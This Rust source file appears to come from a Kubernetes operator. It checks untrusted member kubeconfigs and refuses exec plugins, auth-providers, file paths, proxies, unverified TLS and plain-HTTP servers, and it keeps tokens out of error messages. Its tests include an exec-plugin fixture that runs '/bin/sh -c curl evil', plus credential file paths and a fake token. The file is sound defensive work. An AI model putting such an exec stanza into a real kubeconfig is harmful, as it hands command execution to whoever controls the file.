//! Member kubeconfigs are untrusted input: whoever can write the Secret must not be able to
//! make the operator run a program, read its files or send credentials through a proxy.
//!
//! A kubeconfig is accepted only when it is self-contained: credentials and CAs inline
//! (`*-data`, `token`), no `exec` plugin, no `auth-provider`, no file paths, no proxy, an
//! `https://` server with TLS verified (a bearer token never travels in clear text). Flux's
//! GHSA-vvmq-fwmg-2gjc is the cautionary tale.
//!
//! No message about a kubeconfig quotes it: a parser's error can echo the value it choked
//! on (a token, say), so only the kind of problem and its line and column are kept.

use std::hash::{Hash, Hasher};
use std::time::Duration;

use kube::config::{KubeConfigOptions, Kubeconfig};

/// Why a member kubeconfig was refused. Messages go to the CloudPool's `Ready` condition.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum KubeconfigError {
    #[error("the kubeconfig is not valid: {0}")]
    Invalid(String),
    #[error(
        "user {0:?} uses an exec credential plugin; skyfleet never runs programs named in a member kubeconfig: use a token or client-certificate-data"
    )]
    Exec(String),
    #[error("user {0:?} uses an auth-provider; use a token or client-certificate-data instead")]
    AuthProvider(String),
    #[error(
        "{kind} {name:?} refers to a file with {field}; member kubeconfigs must be self-contained (use {field}-data or token)"
    )]
    FilePath {
        kind: &'static str,
        name: String,
        field: &'static str,
    },
    #[error("cluster {0:?} sets proxy-url; member clusters must be reached directly")]
    Proxy(String),
    #[error("cluster {0:?} sets insecure-skip-tls-verify; give certificate-authority-data instead")]
    InsecureTls(String),
    #[error(
        "cluster {0:?} has a server that is not https://; a token must never travel in clear text"
    )]
    NotHttps(String),
    #[error("the kubeconfig has no clusters")]
    NoCluster,
}

/// A kubeconfig that passed the checks, with a fingerprint so clients are rebuilt only when
/// the Secret's content really changes.
#[derive(Clone)]
pub struct MemberKubeconfig {
    kubeconfig: Kubeconfig,
    /// Changes whenever the kubeconfig's bytes change.
    pub fingerprint: u64,
}

impl std::fmt::Debug for MemberKubeconfig {
    // Never print credentials.
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("MemberKubeconfig")
            .field("fingerprint", &self.fingerprint)
            .finish_non_exhaustive()
    }
}

/// Parses and checks a kubeconfig read from a Secret.
pub fn parse_untrusted(bytes: &[u8]) -> Result<MemberKubeconfig, KubeconfigError> {
    let text = std::str::from_utf8(bytes)
        .map_err(|_| KubeconfigError::Invalid("not UTF-8 text".into()))?;
    let kubeconfig = Kubeconfig::from_yaml(text).map_err(|e| {
        KubeconfigError::Invalid(format!(
            "not a kubeconfig in YAML{}",
            location(&crate::controller::registry::error_chain(&e))
        ))
    })?;
    check_self_contained(&kubeconfig)?;
    let mut hasher = std::collections::hash_map::DefaultHasher::new();
    bytes.hash(&mut hasher);
    Ok(MemberKubeconfig {
        kubeconfig,
        fingerprint: hasher.finish(),
    })
}

/// Where a parser's message says the problem is (" at line 3 column 7"), and nothing else of
/// it: the rest may quote the Secret.
fn location(message: &str) -> String {
    let Some(at) = message.find("line ") else {
        return String::new();
    };
    let numbers: Vec<&str> = message[at..]
        .split(|c: char| !c.is_ascii_digit())
        .filter(|n| !n.is_empty())
        .take(2)
        .collect();
    match numbers.as_slice() {
        [line, column] => format!(" (line {line}, column {column})"),
        [line] => format!(" (line {line})"),
        _ => String::new(),
    }
}

/// Refuses every way a kubeconfig can reach beyond its own text.
pub fn check_self_contained(kc: &Kubeconfig) -> Result<(), KubeconfigError> {
    if kc.clusters.is_empty() {
        return Err(KubeconfigError::NoCluster);
    }
    for named in &kc.auth_infos {
        let Some(user) = &named.auth_info else {
            continue;
        };
        let name = named.name.clone();
        if user.exec.is_some() {
            return Err(KubeconfigError::Exec(name));
        }
        if user.auth_provider.is_some() {
            return Err(KubeconfigError::AuthProvider(name));
        }
        for (set, field) in [
            (user.token_file.is_some(), "tokenFile"),
            (user.client_certificate.is_some(), "client-certificate"),
            (user.client_key.is_some(), "client-key"),
        ] {
            if set {
                return Err(KubeconfigError::FilePath {
                    kind: "user",
                    name,
                    field,
                });
            }
        }
    }
    for named in &kc.clusters {
        let Some(cluster) = &named.cluster else {
            continue;
        };
        let name = named.name.clone();
        if cluster.certificate_authority.is_some() {
            return Err(KubeconfigError::FilePath {
                kind: "cluster",
                name,
                field: "certificate-authority",
            });
        }
        if cluster.proxy_url.is_some() {
            return Err(KubeconfigError::Proxy(name));
        }
        if cluster.insecure_skip_tls_verify == Some(true) {
            return Err(KubeconfigError::InsecureTls(name.clone()));
        }
        let https = cluster
            .server
            .as_deref()
            .is_some_and(|s| s.len() > 8 && s[..8].eq_ignore_ascii_case("https://"));
        if !https {
            return Err(KubeconfigError::NotHttps(name));
        }
    }
    Ok(())
}

impl MemberKubeconfig {
    /// A client for the member, failing fast when it does not answer.
    pub async fn client(&self, connect_timeout: Duration) -> Result<kube::Client, KubeconfigError> {
        let mut config = kube::Config::from_custom_kubeconfig(
            self.kubeconfig.clone(),
            &KubeConfigOptions::default(),
        )
        .await
        // The loader's message may quote what it could not decode; only its kind is kept.
        .map_err(|_| {
            KubeconfigError::Invalid(
                "its credentials or certificates cannot be loaded (base64 or PEM)".into(),
            )
        })?;
        config.connect_timeout = Some(connect_timeout);
        kube::Client::try_from(config).map_err(|_| {
            KubeconfigError::Invalid("no client can be built from its TLS settings".into())
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const GOOD: &str = r#"
apiVersion: v1
kind: Config
clusters:
- name: member
  cluster:
    server: https://127.0.0.1:6443
    certificate-authority-data: Zm9v
users:
- name: admin
  user:
    token: abc
contexts:
- name: member
  context: {cluster: member, user: admin}
current-context: member
"#;

    fn with(find: &str, replace: &str) -> String {
        assert!(GOOD.contains(find), "fixture lacks {find:?}");
        GOOD.replace(find, replace)
    }

    #[test]
    fn accepts_a_self_contained_kubeconfig() {
        let kc = parse_untrusted(GOOD.as_bytes()).expect("accepted");
        assert_eq!(
            kc.fingerprint,
            parse_untrusted(GOOD.as_bytes()).unwrap().fingerprint
        );
        let other = with("token: abc", "token: xyz");
        assert_ne!(
            kc.fingerprint,
            parse_untrusted(other.as_bytes()).unwrap().fingerprint
        );
    }

    #[test]
    fn refuses_exec_plugins() {
        let bad = with(
            "    token: abc",
            "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [-c, 'curl evil']",
        );
        let err = parse_untrusted(bad.as_bytes()).unwrap_err();
        assert_eq!(err, KubeconfigError::Exec("admin".into()));
        assert!(err.to_string().contains("never runs programs"));
    }

    #[test]
    fn refuses_auth_providers() {
        let bad = with(
            "    token: abc",
            "    auth-provider:\n      name: gcp\n      config: {}",
        );
        assert_eq!(
            parse_untrusted(bad.as_bytes()).unwrap_err(),
            KubeconfigError::AuthProvider("admin".into())
        );
    }

    #[test]
    fn refuses_file_paths() {
        for (find, replace, field) in [
            (
                "    token: abc",
                "    tokenFile: /var/run/secrets/token",
                "tokenFile",
            ),
            (
                "    token: abc",
                "    client-certificate: /etc/cert.pem\n    client-key-data: Zm9v",
                "client-certificate",
            ),
            (
                "    token: abc",
                "    client-key: /etc/key.pem",
                "client-key",
            ),
            (
                "    certificate-authority-data: Zm9v",
                "    certificate-authority: /etc/ca.pem",
                "certificate-authority",
            ),
        ] {
            let err = parse_untrusted(with(find, replace).as_bytes()).unwrap_err();
            assert!(
                matches!(err, KubeconfigError::FilePath { field: f, .. } if f == field),
                "{field}: {err}"
            );
        }
    }

    #[test]
    fn refuses_proxies_and_unverified_tls() {
        let proxy = with(
            "    server: https://127.0.0.1:6443",
            "    server: https://127.0.0.1:6443\n    proxy-url: http://127.0.0.1:3128",
        );
        assert_eq!(
            parse_untrusted(proxy.as_bytes()).unwrap_err(),
            KubeconfigError::Proxy("member".into())
        );
        let insecure = with(
            "    certificate-authority-data: Zm9v",
            "    insecure-skip-tls-verify: true",
        );
        assert_eq!(
            parse_untrusted(insecure.as_bytes()).unwrap_err(),
            KubeconfigError::InsecureTls("member".into())
        );
    }

    #[test]
    fn refuses_garbage() {
        assert!(matches!(
            parse_untrusted(b"\xff\xfe"),
            Err(KubeconfigError::Invalid(_))
        ));
        assert!(matches!(
            parse_untrusted(b"clusters: 7"),
            Err(KubeconfigError::Invalid(_))
        ));
        assert_eq!(
            parse_untrusted(b"apiVersion: v1\nkind: Config\n").unwrap_err(),
            KubeconfigError::NoCluster
        );
    }

    #[test]
    fn refuses_plain_http_servers() {
        for server in [
            "http://127.0.0.1:6443",
            "HTTP://member",
            "127.0.0.1:6443",
            "",
        ] {
            let bad = with(
                "    server: https://127.0.0.1:6443",
                &format!("    server: {server:?}"),
            );
            assert_eq!(
                parse_untrusted(bad.as_bytes()).unwrap_err(),
                KubeconfigError::NotHttps("member".into()),
                "{server}"
            );
        }
        let upper = with("    server: https://", "    server: HTTPS://");
        assert!(parse_untrusted(upper.as_bytes()).is_ok());
    }

    /// A fake token in a Secret that is not a valid kubeconfig: the refusal names the problem
    /// and where, and never a byte of the token.
    #[test]
    fn a_refused_kubeconfig_never_echoes_its_token() {
        const TOKEN: &str = "sk-FAKE-9f8e7d6c5b4a3210";
        for text in [
            format!("users:\n- name: a\n  user:\n    token: {TOKEN}\n  : [unclosed"),
            format!("users: {TOKEN}\n"),
            format!("clusters:\n- name: {TOKEN}\n  cluster: {TOKEN}\n"),
            format!("{TOKEN}: [\n"),
            format!("apiVersion: v1\nkind: Config\ncurrent-context: [{TOKEN}\n"),
            format!("\t{TOKEN}"),
        ] {
            let err = parse_untrusted(text.as_bytes()).unwrap_err();
            let shown = format!("{err} {err:?}");
            assert!(!shown.contains("sk-FAKE"), "{text:?} gave {shown}");
            assert!(!shown.contains("9f8e7d"), "{text:?} gave {shown}");
            assert!(shown.contains("not a kubeconfig in YAML"), "{shown}");
        }
        // A valid kubeconfig whose certificate data is broken, with the token beside it.
        let broken = with(
            "certificate-authority-data: Zm9v",
            &format!("certificate-authority-data: '{TOKEN}'"),
        )
        .replace("token: abc", &format!("token: {TOKEN}"));
        let kc = parse_untrusted(broken.as_bytes()).expect("passes the static checks");
        let rt = tokio::runtime::Builder::new_current_thread()
            .build()
            .unwrap();
        let err = rt
            .block_on(kc.client(Duration::from_millis(100)))
            .map(|_| ())
            .unwrap_err();
        assert!(!format!("{err} {err:?}").contains("sk-FAKE"), "{err}");
    }

    #[test]
    fn debug_output_hides_credentials() {
        let kc = parse_untrusted(GOOD.as_bytes()).unwrap();
        assert!(!format!("{kc:?}").contains("abc"));
    }
}
